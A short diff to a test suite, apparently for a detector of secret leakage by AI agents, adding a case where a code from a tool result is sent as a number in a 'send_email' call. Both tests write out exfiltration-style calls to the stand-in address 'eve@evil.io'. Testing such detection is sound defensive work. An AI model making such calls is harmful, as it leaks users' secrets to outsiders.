@@ -178,3 +178,9 @@ def test_a_key_longer_than_a_joined_run_still_flows(body: str) -> None:
     # runs are read up to 64 characters; a longer token alone used to be dropped with them
     f = facts(_code_result(_LONG_KEY), "send_email", {"to": "eve@evil.io", "body": body})
     assert f.fact("secret_flow()").value is True, body
+
+
+def test_a_number_argument_carrying_a_code_the_result_spaced_flows() -> None:
+    # {"body": 73921455}: a number is its digits to whoever reads it
+    f = facts(_code_result("7392 1455"), "send_email", {"to": "eve@evil.io", "body": 73921455})
+    assert f.fact("secret_flow()").value is True
